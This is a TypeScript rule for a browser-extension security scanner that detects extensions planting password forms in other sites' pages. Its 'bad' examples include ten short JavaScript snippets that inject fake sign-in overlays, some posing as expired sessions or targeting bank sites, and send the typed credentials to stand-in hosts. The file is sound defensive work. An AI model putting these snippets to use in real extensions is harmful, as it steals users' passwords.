import {
  callsNamed,
  constant,
  Op,
  pattern,
  posOf,
  propertyOf,
  receiverOf,
  valuesOf,
  writesOf,
  apiPath,
  type ScriptFacts,
} from '../../facts/javascript/query.ts';
import { flowsOf } from '../../extension/flowsOf.ts';
import type { SinkKind, SourceKind } from '../../taint/kinds.ts';
import type { Facts } from '../../facts.ts';
import { defineRule, type Hit } from '../../rule.ts';
import { checkScripts, contentExample, type Judged } from './checkScripts.ts';
import { elementsPut } from './elementsPut.ts';
import { markups } from './markups.ts';
import { isStrangers } from './isStrangers.ts';
import { mentions, textsOf } from './textsOf.ts';
import { functionAt } from '../../program/functionAt.ts';
import { runsInPages } from './places.ts';
import { sendingsOf } from './sendings.ts';
import { first } from '../../facts/first.ts';
import { say } from '../../../texts/say.ts';

const PASSWORD = /<input\b[^<>]*\btype\s*=\s*\\?["']?password/i;
/** What else a form for signing in holds. */
const ACCOUNT =
  /<input\b[^<>]*\b(type\s*=\s*\\?["']?(email|tel)|(name|id|placeholder|autocomplete)\s*=\s*\\?["']?(e-?mail|user|login|phone|account))/i;
/** A style that lays something over the whole page. */
const COVERS = /position\s*:\s*fixed[^>"']*\b(?:inset\s*:\s*0|(?:width|height)\s*:\s*100(?:%|v[wh]))/i;
const PRESSING =
  /(session|login|sign-?in)\b[^<]{0,30}\bexpired|sign in again|log ?in again|verify (it'?s you|your (account|identity))|confirm your password|re-?enter your password|account (is )?(locked|suspended)/i;

const TYPED: ReadonlySet<SourceKind> = new Set<SourceKind>(['form-input', 'own-input']);

export const signInFormInPage = defineRule({
  id: 'sign-in-form-in-page',
  title: 'Phishing: puts a password form into other sites’ pages',
  severity: 'medium',
  confidence: 'medium',
  category: 'privacy',
  applies: 'extension',
  cwe: 'CWE-451',
  cap: { grade: 'D', reason: 'it asks for passwords on other sites’ pages', from: 'critical' },
  references: ['https://attack.mitre.org/techniques/T1056/003/'],
  why: 'Users see the site’s address above the form and take it for the site’s own. What they enter goes to whoever wrote the extension.',
  remedy: 'Ask for passwords only in the extension’s own pages, or use the browser’s sign-in API.',
  check: checkScripts(function* ({ script, file, facts, hit }) {
    if (!runsInPages(facts, file.path)) return;
    const made = mentions(script, PRESSING) ? madeField(script) : 0;
    if (made !== 0 && typedTo(facts, script, 'network', 'message'))
      yield hit(made, { severity: 'high', confidence: 'high', message: say('claims-sign-in-sends') });
    if (mentions(script, PASSWORD)) yield* inMarkup({ script, facts, hit });
    yield* sentAway({ script, facts, hit });
  }),
  examples: {
    bad: [
      contentExample(
        'const f = document.createElement("form"); f.setAttribute("action", "https://login.x.example/p"); const i = document.createElement("input"); i.type = "password"; f.append(i); document.body.append(f);',
      ),
      contentExample(
        'const h = (tag, given, ...inner) => { const e = Object.assign(document.createElement(tag), given); e.append(...inner); return e; }; document.body.append(h("form", { action: "https://login.x.example/p", method: "post" }, h("input", { type: "password", name: "p" })));',
      ),
      contentExample(
        'const to = "https://login.x.example/p"; document.body.insertAdjacentHTML("beforeend", `<form action="${to}" method=post><input name=u><input type=password name=p></form>`);',
      ),
      contentExample(
        'const f = document.createElement("form"); const t = document.createElement("h2"); t.textContent = "Your session has expired"; const p = document.createElement("input"); p.type = "password"; f.append(t, p); document.body.append(f); f.onsubmit = () => fetch("https://verify.example/a", { method: "POST", body: p.value });',
      ),
      contentExample(
        'document.addEventListener("visibilitychange", () => { document.body.innerHTML = \'<h1>Sign in again</h1><form id="f"><input name="email" type="email"><input name="pw" type="password"><button>Next</button></form>\'; });',
      ),
      contentExample(
        'document.body.insertAdjacentHTML("beforeend", \'<div class="box"><p>Your session has expired</p><input type="password" id="p"><button>Continue</button></div>\');',
      ),
      contentExample(
        'const o = document.createElement("div"); o.style = "position:fixed;inset:0;z-index:9999"; o.innerHTML = "<form id=zz><h2>Session expired</h2><input name=u placeholder=Email><input name=p type=password><button>Sign in</button></form>"; document.body.append(o); o.querySelector("#zz").onsubmit = (e) => { const f = e.target; fetch("https://verify.example/a", { method: "POST", body: new URLSearchParams({ u: f.u.value, p: f.p.value }) }); };',
      ),
      contentExample(
        'const d = document.createElement("div"); d.innerHTML = "<form><input name=u><input name=p type=password></form>"; document.body.replaceChildren(d); d.firstChild.onsubmit = (e) => { const { u, p } = e.target; fetch("https://x.example/p?" + u.value + p.value); };',
      ),
      contentExample(
        'const box = document.createElement("div"); box.innerHTML = \'<input name="email"><input type="password" name="pw">\'; box.onsubmit = () => { fetch("https://x.example/s", { method: "POST", body: new FormData(box.firstChild) }); }; document.body.append(box);',
      ),
      contentExample(
        'if (/bank/.test(location.host)) { const d = document.createElement("div"); d.innerHTML = \'<form style="position:fixed;inset:0;background:#fff"><input name=u><input type=password name=p></form>\'; document.body.append(d); d.querySelector("form").onsubmit = () => { const [u, p] = d.querySelectorAll("input"); fetch("https://x.example/s", { method: "POST", body: u.value + p.value }); }; }',
      ),
    ],
    good: [
      contentExample(
        'const Panel = () => h("form", { onSubmit: (e) => fetch("https://api.example.com/in", { method: "POST", body: new FormData(e.target) }) }, h("h2", null, "Sign in to Clipper"), h("input", { type: "password" })); const note = () => toast("Your session has expired"); render(h(Panel), box);',
      ),
      contentExample(
        'panel.innerHTML = \'<label>API key <input type="password" id="key"></label>\'; panel.onchange = () => chrome.storage.local.set({ key: panel.querySelector("#key").value });',
      ),
      contentExample('document.querySelectorAll(\'input[type="password"]\').forEach((f) => { f.type = "text"; });'),
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
          'p.html': '<div id="a"></div><script src="p.js"></script>',
          'p.js':
            'a.innerHTML = \'<input name="email"><input type="password">\'; a.onsubmit = () => fetch("https://api.example.com/login", { method: "POST" });',
        },
      },
    ],
  },
});

/** A form with a field for a password whose own address is that of somebody else. */
function* sentAway({ script, facts, hit }: Pick<Judged, 'script' | 'facts' | 'hit'>): Generator<Hit> {
  const put = elementsPut(facts, script);
  const asks = put.some(({ tag, attributes }) => tag === 'input' && attributes.get('type') === 'password');
  if (!asks) return;
  for (const { tag, attributes, value, around } of put) {
    const to = attributes.get('action') ?? attributes.get('formaction') ?? '';
    if ((tag !== 'form' && tag !== 'button' && tag !== 'input') || !isStrangers(facts, to)) continue;
    if (around !== '' && !PASSWORD.test(around)) continue;
    yield hit(value, {
      severity: 'critical',
      confidence: 'high',
      evidence: to,
      message: say('form-sent-away', to.slice(0, 120)),
    });
    return;
  }
}

/** Such a form as markup. */
function* inMarkup({ script, facts, hit }: Pick<Judged, 'script' | 'facts' | 'hit'>): Generator<Hit> {
  for (const { value, replaces } of first([...markups(script)], 200)) {
    const text = pattern(script, value);
    if (!PASSWORD.test(text)) continue;
    const whole = replaces || emptiesPage(script);
    const pressing = PRESSING.test(text) || mentions(script, PRESSING);
    const sends = typedTo(facts, script, 'network') || sendingsOf(script).some(({ kind }) => kind === 'network');
    const covers = whole || COVERS.test(text);
    if (sends && (covers || (pressing && typedTo(facts, script, 'network', 'message')))) {
      yield hit(value, {
        severity: 'critical',
        message: covers ? say('form-covers-page') : say('claims-sign-in-sends'),
      });
      return;
    }
    if (
      !whole &&
      !pressing &&
      !(ACCOUNT.test(text) && sendingsOf(script).some((sending) => sending.kind !== 'storage'))
    )
      continue;
    yield hit(
      value,
      whole || pressing
        ? {
            severity: 'high',
            message: whole ? say('form-replaces-page') : say('claims-sign-in'),
          }
        : { confidence: 'low' },
    );
    return;
  }
}

/** A password field that code makes, `h('input', { type: 'password' })`, by a function that says one must sign in again. */
function madeField(script: ScriptFacts): number {
  const pressing = new Set(
    textsOf(script)
      .filter(({ text }) => PRESSING.test(text))
      .map(({ value }) => functionAt(script, posOf(script, value))),
  );
  const fields = [
    ...[...valuesOf(script, Op.object, Op.element)].map((value) => propertyOf(script, value, 'type')),
    ...writesOf(script, 'type').map(({ value }) => value),
  ];
  return (
    fields.find(
      (value) => constant(script, value) === 'password' && pressing.has(functionAt(script, posOf(script, value))),
    ) ?? 0
  );
}

/** Whether what is typed in the pages of a script is followed out, or to another part of the extension. */
const typedTo = (facts: Facts, script: ScriptFacts, ...to: readonly SinkKind[]): boolean =>
  facts
    .whole(flowsOf)
    .flows.some(
      ({ source, sink }) => TYPED.has(source.kind) && source.unit.script === script && to.includes(sink.kind),
    );

const PAGE = /^document\.(?:body|documentElement)$/;

/** Whether a script takes all of a page away: what it puts there stands alone. */
function emptiesPage(script: ScriptFacts): boolean {
  return (
    callsNamed(script, 'replaceChildren', 'replaceWith', 'remove').some((call) =>
      PAGE.test(apiPath(script, receiverOf(script, call)) ?? ''),
    ) ||
    writesOf(script, 'innerHTML', 'textContent', 'innerText').some(
      (write) => PAGE.test(apiPath(script, write.object) ?? '') && constant(script, write.value) === '',
    )
  );
}
